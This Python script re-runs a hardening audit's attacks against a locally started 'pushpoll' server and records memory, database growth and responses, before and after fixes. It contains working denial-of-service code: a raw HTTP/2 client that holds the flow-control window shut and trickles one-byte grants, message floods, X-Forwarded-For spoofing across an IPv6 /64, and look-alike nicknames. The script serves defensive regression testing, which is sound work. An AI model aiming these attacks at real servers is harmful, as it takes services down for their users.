#!/usr/bin/env python3
"""Re-runs the attacks of the second hardening audit against one pushpoll binary and
writes what each one made the server hold, as JSON (and a Markdown table beside it).

    scripts/attack-audit.py --bin target/release/pushpoll --label after --out results/hardening
    scripts/attack-audit.py --bin /path/to/older/pushpoll --label before --out results/hardening
    scripts/attack-audit.py --table results/hardening      # table.md from before.json and after.json

Every server is started by this script on 127.0.0.1:0 with the flags the row names; every
client is on loopback (the whole 127.0.0.0/8). Standard library only: the HTTP/2 attacker
speaks raw frames (RFC 9113), because an HTTP/2 library manages flow control itself and would
never leave a window shut, which is the attack.
"""

import argparse
import http.client
import json
import os
import platform
import re
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse

PAGE = os.sysconf("SC_PAGE_SIZE")
MIB = 1024 * 1024


def rss(pid):
    with open(f"/proc/{pid}/statm") as f:
        return int(f.read().split()[1]) * PAGE


class Server:
    """The binary under test, started with `args`; its URL read from what it prints."""

    def __init__(self, binary, args, tls=False):
        self.dir = tempfile.mkdtemp(prefix="attack-audit-")
        argv = [binary, "--addr", "127.0.0.1:0"] + args
        if "--db" not in args:
            argv += ["--db", os.path.join(self.dir, "pushpoll.sqlite")]
        if tls:
            argv.append("--tls-self-signed")
        self.proc = subprocess.Popen(
            argv, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
        )
        line = self.proc.stdout.readline()
        m = re.search(r"(https?)://(127\.0\.0\.1):(\d+)", line)
        if not m:
            raise SystemExit(f"no URL in {line!r}")
        self.scheme, self.host, self.port = m.group(1), m.group(2), int(m.group(3))
        threading.Thread(target=self.proc.stdout.read, daemon=True).start()
        self.tls = tls

    @property
    def pid(self):
        return self.proc.pid

    def conn(self, source="127.0.0.1"):
        if self.tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            return http.client.HTTPSConnection(
                self.host, self.port, context=ctx, source_address=(source, 0), timeout=30
            )
        return http.client.HTTPConnection(
            self.host, self.port, source_address=(source, 0), timeout=30
        )

    def request(self, method, path, body=None, headers=None, source="127.0.0.1", conn=None):
        c = conn or self.conn(source)
        h = {"content-type": "application/json"} if body is not None else {}
        h.update(headers or {})
        c.request(method, path, body=json.dumps(body, ensure_ascii=False).encode() if body is not None else None, headers=h)
        r = c.getresponse()
        data = r.read()
        if conn is None:
            c.close()
        return r.status, dict(r.getheaders()), data

    def stats(self):
        status, _, data = self.request("GET", "/api/stats")
        return json.loads(data) if status == 200 else {}

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(10)
        except subprocess.TimeoutExpired:
            self.proc.kill()
        shutil.rmtree(self.dir, ignore_errors=True)


def login(server, nick, source="127.0.0.1", headers=None, conn=None):
    status, h, _ = server.request(
        "POST", "/api/session", {"nick": nick}, headers=headers, source=source, conn=conn
    )
    cookie = h.get("set-cookie", h.get("Set-Cookie", ""))
    return status, cookie.split(";")[0]


def fill_big(server, count):
    """`count` messages of 2000 four-byte characters (8,000 bytes of text) in `lobby`."""
    conn = server.conn("127.0.0.3")
    status, cookie = login(server, "big", conn=conn)
    assert status == 201, status
    text = "\U0001F980" * 2000
    for _ in range(count):
        status, _, body = server.request(
            "POST", "/api/chat/messages", {"room": "lobby", "text": text},
            headers={"cookie": cookie}, conn=conn,
        )
        assert status == 201, (status, body)
    conn.close()


# --- raw HTTP/2 -------------------------------------------------------------------------

DATA, HEADERS, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 4, 6, 7, 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(s):
    b = s.encode()
    assert len(b) < 127
    return bytes([len(b)]) + b


def get_block(authority, path):
    # :method GET, :scheme https (static 2, 7); :authority, :path as literals with indexed
    # names (1, 4), without indexing (RFC 7541 §6.2.2).
    return b"\x82\x87\x01" + literal(authority) + b"\x04" + literal(path)


class WindowAttack(threading.Thread):
    """One HTTP/2 connection: SETTINGS_INITIAL_WINDOW_SIZE 0, `streams` GETs of `path`, then
    (when `grant`) one WINDOW_UPDATE(+1) per stream once its head arrives, and never again;
    every PING answered."""

    def __init__(self, server, path, streams, grant, source):
        super().__init__(daemon=True)
        self.server, self.path, self.streams, self.grant, self.source = server, path, streams, grant, source
        self.closed_after = None
        self.data_bytes = 0
        self.answered = 0
        self.read_bytes = 0
        self.started = None

    def run(self):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((self.server.host, self.server.port), source_address=(self.source, 0))
        s = ctx.wrap_socket(raw, server_hostname="localhost")
        assert s.selected_alpn_protocol() == "h2"
        authority = f"{self.server.host}:{self.server.port}"
        out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HIHI", 4, 0, 2, 0))
        for i in range(self.streams):
            out += frame(HEADERS, 0x4 | 0x1, 1 + 2 * i, get_block(authority, self.path))
        s.sendall(out)
        self.started = time.monotonic()
        buf = b""
        s.settimeout(1)
        while True:
            try:
                chunk = s.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.closed_after = time.monotonic() - self.started
                return
            self.read_bytes += len(chunk)
            buf += chunk
            reply = b""
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                kind, flags = buf[3], buf[4]
                stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                payload = buf[9 : 9 + n]
                buf = buf[9 + n :]
                if kind == SETTINGS and not flags & 1:
                    reply += frame(SETTINGS, 1, 0)
                elif kind == PING and not flags & 1:
                    reply += frame(PING, 1, 0, payload)
                elif kind == HEADERS:
                    self.answered += 1
                    if self.grant:
                        reply += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1))
                elif kind == DATA:
                    self.data_bytes += n
            if reply:
                try:
                    s.sendall(reply)
                except OSError:
                    self.closed_after = time.monotonic() - self.started
                    return


def fill_strokes(server, count):
    """`count` strokes of 64 points each on the canvas, 16 per request, anonymously."""
    conn = server.conn("127.0.0.3")
    stroke = {"color": "#123456", "width": 3, "points": [500] * 128}
    for _ in range(count // 16):
        status, _, body = server.request("POST", "/api/draw", {"strokes": [stroke] * 16}, conn=conn)
        assert status == 201, (status, body)
    conn.close()


def h2_window(binary, connections, grant, duration, send_timeout, feed="chat"):
    args = ["--rate-limit", "1000000", "--db", ":memory:"] + extra_flags(binary)
    if send_timeout:
        args += ["--send-timeout", send_timeout]
    if feed == "draw":
        args += ["--draw-rate", "1000000", "--draw-rate-total", "10000000"]
    server = Server(binary, args, tls=True)
    path = f"/poll/{feed}?after=0&limit=1000"
    try:
        if feed == "draw":
            fill_strokes(server, 4096)
        else:
            fill_big(server, 1000)
        probe = server.request("GET", path)
        answer_bytes = len(probe[2])
        base = rss(server.pid)
        timeouts = server.stats()["connections"]["send_timeouts"]
        attacks = [WindowAttack(server, path, 32, grant, "127.0.0.1") for _ in range(connections)]
        for a in attacks:
            a.start()
        t0 = time.monotonic()
        peak, samples, held_until = base, [], 0.0
        while time.monotonic() - t0 < duration:
            r = rss(server.pid)
            now = time.monotonic() - t0
            samples.append((round(now, 1), r))
            peak = max(peak, r)
            if r - base > 8 * MIB:
                held_until = now
            if all(a.closed_after is not None for a in attacks) and now > 2:
                # Closed: sample a few seconds more for what stays held.
                if now - max(a.closed_after for a in attacks) > 5:
                    break
            time.sleep(0.5)
        stats = server.stats()
        other = server.request("GET", "/poll/clock", source="127.0.0.2")[0]
        return {
            "path": path,
            "send_timeout": send_timeout or "30s (default)",
            "connections": connections,
            "streams_per_connection": 32,
            "one_answer_bytes": answer_bytes,
            "grant": "one WINDOW_UPDATE(+1) per stream" if grant else "none",
            "rss_before_mib": round(base / MIB, 1),
            "rss_peak_mib": round(peak / MIB, 1),
            "held_over_8_mib_for_s": round(held_until, 1),
            "rss_end_mib": round(samples[-1][1] / MIB, 1),
            "closed_after_s": [round(a.closed_after, 1) if a.closed_after else None for a in attacks],
            "bytes_read_by_attacker": sum(a.read_bytes for a in attacks),
            "data_bytes_read_by_attacker": sum(a.data_bytes for a in attacks),
            "send_timeouts": stats["connections"]["send_timeouts"] - timeouts,
            "another_peer_status": other,
            "observed_s": round(time.monotonic() - t0, 1),
        }
    finally:
        server.stop()


def ipv6_logins(binary):
    server = Server(binary, ["--trust-proxy", "127.0.0.1", "--max-sessions", "50", "--db", ":memory:"] + extra_flags(binary))
    try:
        statuses = {}
        for i in range(1, 61):
            status, _ = login(server, f"v6n{i}", headers={"x-forwarded-for": f"2001:db8:1:2::{i:x}"})
            statuses[status] = statuses.get(status, 0) + 1
        honest, _ = login(server, "honest", headers={"x-forwarded-for": "2001:db8:9::1"})
        return {"logins_from_one_64": statuses, "honest_client_from_another_64": honest}
    finally:
        server.stop()


def minor(binary):
    out = {}
    server = Server(binary, ["--db", ":memory:"] + extra_flags(binary))
    try:
        status, _, body = server.request(
            "POST", "/api/draw",
            {"strokes": [{"color": "#123456", "width": 2, "points": [1, 1]}], "room": "lobby"},
        )
        out["draw_unknown_top_level_field"] = status
        s1, _ = login(server, "alice", source="127.0.0.4")
        s2, _ = login(server, "\u0430lice", source="127.0.0.5")
        out["look_alike_nick_beside_alice"] = s2
    finally:
        server.stop()
    server = Server(binary, ["--db", ":memory:"] + extra_flags(binary), tls=True)
    try:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(socket.create_connection((server.host, server.port)), server_hostname="localhost")
        authority = f"{server.host}:{server.port}"
        # `localhost` is one of the server's own names: the Host check alone takes it.
        other = f"localhost:{server.port}"
        block = get_block(authority, "/poll/clock") + b"\x00" + literal("host") + literal(other)
        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(HEADERS, 0x5, 1, block))
        s.settimeout(5)
        buf, status = b"", None
        while status is None:
            chunk = s.recv(65536)
            if not chunk:
                break
            buf += chunk
            while len(buf) >= 9:
                n = int.from_bytes(buf[:3], "big")
                if len(buf) < 9 + n:
                    break
                if buf[3] == HEADERS:
                    # :status from the static table: 0x88 = 200, 0x8c = 400, 0x8d = 404.
                    status = {0x88: 200, 0x8C: 400, 0x8D: 404}.get(buf[9], f"0x{buf[9]:02x}")
                buf = buf[9 + n :]
        out["h2_host_differs_from_authority"] = status
    finally:
        server.stop()
    return out


def database_readable(binary):
    """The default database under umask 022, after a login and a message: can another local
    user (`nobody`) read it, its -wal and its directory?"""
    work = tempfile.mkdtemp(prefix="attack-audit-db-")
    os.chmod(work, 0o755)
    db = os.path.join(work, "data", "pushpoll.sqlite")
    old = os.umask(0o022)
    try:
        server = Server(binary, ["--db", db])
    finally:
        os.umask(old)
    try:
        status, cookie = login(server, "victim")
        server.request("POST", "/api/chat/messages", {"text": "hi"}, headers={"cookie": cookie})
        out = {}
        for name in ["pushpoll.sqlite", "pushpoll.sqlite-wal", "pushpoll.sqlite-shm"]:
            path = os.path.join(work, "data", name)
            if not os.path.exists(path):
                out[name] = "absent"
                continue
            mode = oct(os.stat(path).st_mode & 0o777)
            read = subprocess.run(["runuser", "-u", "nobody", "--", "cat", path], capture_output=True)
            out[name] = f"mode {mode}, nobody reads it: {read.returncode == 0}"
        mode = oct(os.stat(os.path.join(work, "data")).st_mode & 0o777)
        out["data/"] = f"mode {mode}"
        return out
    finally:
        server.stop()
        shutil.rmtree(work, ignore_errors=True)


def sqlite_growth(binary, seconds=33.0):
    """30 sessions from one IPv4 address post 8 KB messages for `seconds`, at the default
    limits; how much the database (and its -wal) grows."""
    server = Server(binary, [])
    db = os.path.join(server.dir, "pushpoll.sqlite")
    try:
        cookies = []
        for i in range(30):
            status, cookie = login(server, f"flood{i}", source="127.0.0.4")
            assert status == 201, status
            cookies.append(cookie)
        size = lambda: sum(os.path.getsize(db + x) for x in ["", "-wal"] if os.path.exists(db + x))
        start_size = size()
        stored = [0] * 30
        stop = time.monotonic() + seconds
        text = "\U0001F980" * 2000

        def flood(i):
            conn = server.conn("127.0.0.4")
            while time.monotonic() < stop:
                try:
                    status, _, _ = server.request(
                        "POST", "/api/chat/messages", {"text": text},
                        headers={"cookie": cookies[i]}, conn=conn,
                    )
                except (OSError, http.client.HTTPException):
                    conn = server.conn("127.0.0.4")
                    continue
                if status == 201:
                    stored[i] += 1
                else:
                    time.sleep(0.25)

        threads = [threading.Thread(target=flood, args=(i,)) for i in range(30)]
        for t in threads:
            t.start()
        peak = start_size
        while time.monotonic() < stop:
            peak = max(peak, size())
            time.sleep(0.5)
        for t in threads:
            t.join()
        end = size()
        return {
            "seconds": seconds,
            "messages_stored": sum(stored),
            "database_and_wal_bytes_start": start_size,
            "database_and_wal_bytes_end": end,
            "grew_bytes_per_hour_at_this_rate": int((end - start_size) / seconds * 3600),
        }
    finally:
        server.stop()


def redis_stopped(binary, writers=200):
    """A node on its own redis-server; 200 sessions each send one message while Redis is
    stopped (SIGSTOP): when each gets its answer."""
    if not shutil.which("redis-server"):
        return {"skipped": "no redis-server"}
    work = tempfile.mkdtemp(prefix="attack-audit-redis-")
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    redis = subprocess.Popen(
        ["redis-server", "--port", str(port), "--bind", "127.0.0.1", "--dir", work,
         "--save", "", "--appendonly", "no"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    for _ in range(50):
        if subprocess.run(["redis-cli", "-p", str(port), "ping"], capture_output=True).stdout.strip() == b"PONG":
            break
        time.sleep(0.1)
    server = Server(binary, ["--redis", f"redis://127.0.0.1:{port}", "--db", ":memory:",
                             "--login-rate", "1000000"] + extra_flags(binary))
    try:
        cookies = []
        for i in range(writers):
            status, cookie = login(server, f"w{i}", source=f"127.0.0.{10 + i % 8}")
            assert status == 201, status
            cookies.append(cookie)
        conns = [server.conn(f"127.0.0.{10 + i % 8}") for i in range(writers)]
        for c in conns:
            c.connect()
        redis.send_signal(signal.SIGSTOP)
        results = [None] * writers
        barrier = threading.Barrier(writers)

        def write(i):
            barrier.wait()
            t0 = time.monotonic()
            try:
                status, _, _ = server.request(
                    "POST", "/api/chat/messages", {"text": f"m{i}"},
                    headers={"cookie": cookies[i]}, conn=conns[i],
                )
            except (OSError, http.client.HTTPException) as e:
                status = type(e).__name__
            results[i] = (status, time.monotonic() - t0)

        threads = [threading.Thread(target=write, args=(i,)) for i in range(writers)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        redis.send_signal(signal.SIGCONT)
        by = {}
        for r in results:
            if r is None:
                by.setdefault("no answer in 60 s", []).append(60.0)
            else:
                by.setdefault(str(r[0]), []).append(r[1])
        summary = {}
        for status, times in by.items():
            times.sort()
            summary[status] = {
                "count": len(times),
                "median_s": round(times[len(times) // 2], 3),
                "max_s": round(times[-1], 3),
            }
        return {"writers": writers, "answers": summary}
    finally:
        try:
            redis.send_signal(signal.SIGCONT)
        except ProcessLookupError:
            pass
        server.stop()
        redis.kill()
        redis.wait()
        shutil.rmtree(work, ignore_errors=True)


def extra_flags(binary):
    """Flags this build knows that lift the budgets the attacks are not about."""
    help_text = subprocess.run([binary, "--help"], capture_output=True, text=True).stdout
    flags = []
    if "--rate-limit-bytes" in help_text:
        flags += ["--rate-limit-bytes", "1000000000"]
    return flags


def h2_cell(row):
    closed = [c for c in row["closed_after_s"] if c is not None]
    if len(closed) == len(row["closed_after_s"]):
        end = f"closed after {max(closed)} s"
    else:
        end = f"still open after {row['observed_s']} s"
    return (
        f"RSS {row['rss_before_mib']} → {row['rss_peak_mib']} MiB, held over +8 MiB for "
        f"{row['held_over_8_mib_for_s']} s; {end}; {row['bytes_read_by_attacker']} bytes read "
        f"by the attacker; send_timeouts +{row['send_timeouts']}; another address: "
        f"{row['another_peer_status']}"
    )


def table(directory):
    """`table.md` in `directory`, from its `before.json` and `after.json`."""
    runs = {}
    for label in ["before", "after"]:
        with open(os.path.join(directory, f"{label}.json")) as f:
            runs[label] = json.load(f)
    b, a = runs["before"]["rows"], runs["after"]["rows"]
    lines = [
        "| attack | before | after |",
        "|---|---|---|",
    ]
    for name, what in [
        ("h2_window_1_connection", "HTTP/2, window 0, 32 × `/poll/chat?after=0&limit=1000`, one `WINDOW_UPDATE(+1)` per stream, PINGs answered: 1 connection"),
        ("h2_window_3_connections", "the same, 3 connections"),
        ("h2_zero_window_2_connections", "the same without the grant, 2 connections"),
        ("h2_window_draw_2_connections", "the same on `/poll/draw` (anonymous), `--send-timeout 5s`, 2 connections"),
    ]:
        lines.append(
            f"| {what} (one answer: {b[name]['one_answer_bytes']:,} → {a[name]['one_answer_bytes']:,} bytes) "
            f"| {h2_cell(b[name])} | {h2_cell(a[name])} |"
        )
    def fmt(d):
        return "; ".join(f"{k}: {v}" for k, v in d.items() if k != "_run")
    name = "database_readable_by_another_user"
    lines.append(f"| default `--db` under umask 022, read as `nobody` | {fmt(b[name])} | {fmt(a[name])} |")
    name = "ipv6_64_logins"
    cell = lambda r: f"60 logins from one /64 through a trusted proxy: {r['logins_from_one_64']}; an honest client from another /64: {r['honest_client_from_another_64']}"
    lines.append(f"| logins from 60 addresses of one IPv6 /64 (`--max-sessions 50`) | {cell(b[name])} | {cell(a[name])} |")
    name = "sqlite_growth_30_sessions_8kb"
    cell = lambda r: (
        f"{r['messages_stored']} stored in {r['seconds']} s; database + WAL "
        f"{r['database_and_wal_bytes_start']:,} → {r['database_and_wal_bytes_end']:,} bytes"
    )
    lines.append(f"| 30 sessions from one IPv4 address posting 8 KB messages, default limits | {cell(b[name])} | {cell(a[name])} |")
    name = "redis_stopped_200_writers"
    cell = lambda r: "; ".join(
        f"{status}: {v['count']} (median {v['median_s']} s, max {v['max_s']} s)" for status, v in r["answers"].items()
    )
    lines.append(f"| Redis stopped (SIGSTOP), 200 concurrent writers: when each got its answer | {cell(b[name])} | {cell(a[name])} |")
    m_b, m_a = b["minor"], a["minor"]
    for key, what in [
        ("h2_host_differs_from_authority", "HTTP/2 `Host: localhost:PORT` with `:authority` 127.0.0.1:PORT"),
        ("draw_unknown_top_level_field", "a draw batch with an unknown top-level field"),
        ("look_alike_nick_beside_alice", "login as `аlice` (Cyrillic а) while `alice` is online"),
    ]:
        lines.append(f"| {what} | {m_b[key]} | {m_a[key]} |")
    lines.append("")
    for label in ["before", "after"]:
        r = runs[label]
        lines.append(f"- **{label}**: `{r['binary']}` ({r['version']}), {r['machine']['cores']} cores, Linux {r['machine']['kernel']}.")
    recorded = [row["_run"] for run in runs.values() for row in run["rows"].values() if "_run" in row]
    commands = sorted({r["command"] for r in recorded})
    dates = sorted(r["date_utc"] for r in recorded)
    lines.append(f"- Runs {dates[0]} to {dates[-1]}: " + "; ".join(f"`{c}`" for c in commands) + ".")
    for label, run in runs.items():
        unnamed = [name for name, row in run["rows"].items() if "_run" not in row]
        if unnamed:
            lines.append(
                f"- The {label} rows {', '.join(unnamed)} come from the full run "
                f"`scripts/attack-audit.py --bin {run['binary']} --label {label}`, made before the "
                "script recorded each row's command and time."
            )
    with open(os.path.join(directory, "table.md"), "w") as f:
        f.write("\n".join(lines) + "\n")
    print("\n".join(lines))


def main():
    if len(sys.argv) == 3 and sys.argv[1] == "--table":
        table(sys.argv[2])
        return
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--bin", required=True)
    ap.add_argument("--label", required=True)
    ap.add_argument("--out", default="results/hardening")
    ap.add_argument("--duration", type=float, default=100.0, help="longest an attack row is watched (s)")
    ap.add_argument("--quick", action="store_true", help="30 s rows, for a smoke run")
    ap.add_argument("--only", help="these rows (comma-separated), kept beside the others already in the output file")
    args = ap.parse_args()
    duration = 30.0 if args.quick else args.duration
    binary = os.path.abspath(args.bin)
    every = {
        "h2_window_1_connection": lambda: h2_window(binary, 1, True, duration, None),
        "h2_window_3_connections": lambda: h2_window(binary, 3, True, duration, None),
        "h2_zero_window_2_connections": lambda: h2_window(binary, 2, False, duration, None),
        "h2_window_draw_2_connections": lambda: h2_window(
            binary, 2, True, min(duration, 60.0), "5s", feed="draw"
        ),
        "ipv6_64_logins": lambda: ipv6_logins(binary),
        "database_readable_by_another_user": lambda: database_readable(binary),
        "sqlite_growth_30_sessions_8kb": lambda: sqlite_growth(binary),
        "redis_stopped_200_writers": lambda: redis_stopped(binary),
        "minor": lambda: minor(binary),
    }
    chosen = args.only.split(",") if args.only else list(every)
    path = os.path.join(args.out, f"{args.label}.json")
    rows = {}
    if args.only and os.path.exists(path):
        with open(path) as f:
            rows = json.load(f)["rows"]
    command = " ".join([sys.argv[0]] + sys.argv[1:])
    for name in chosen:
        print(f"==> {name}", file=sys.stderr, flush=True)
        rows[name] = every[name]()
        rows[name]["_run"] = {
            "command": command,
            "date_utc": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
        }
    version = subprocess.run([binary, "--version"], capture_output=True, text=True).stdout.strip()
    result = {
        "label": args.label,
        "binary": binary,
        "version": version,
        "machine": {"cores": os.cpu_count(), "kernel": platform.release()},
        "rows": rows,
    }
    os.makedirs(args.out, exist_ok=True)
    with open(path, "w") as f:
        json.dump(result, f, indent=1)
    print(json.dumps(result, indent=1))


if __name__ == "__main__":
    main()
